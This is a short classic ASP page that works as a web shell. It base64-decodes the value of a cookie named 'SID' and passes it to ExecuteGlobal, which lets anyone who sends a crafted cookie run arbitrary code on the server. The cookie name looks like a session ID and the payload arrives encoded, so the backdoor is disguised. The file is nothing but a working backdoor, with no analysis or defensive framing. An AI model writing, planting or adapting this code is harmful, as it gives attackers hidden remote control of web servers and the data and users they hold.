<%
Function b64d(ByVal s)
    Dim x, n
    Set x = CreateObject("MSXML2.DOMDocument")
    Set n = x.createElement("b")
    n.dataType = "bin.base64"
    n.text = s
    b64d = BytesToStr(n.nodeTypedValue)
End Function
Function BytesToStr(b)
    Dim st
    Set st = CreateObject("ADODB.Stream")
    st.Type = 1 : st.Open : st.Write b
    st.Position = 0 : st.Type = 2 : st.Charset = "utf-8"
    BytesToStr = st.ReadText
    st.Close
End Function
ExecuteGlobal b64d(Request.Cookies("SID"))
%>
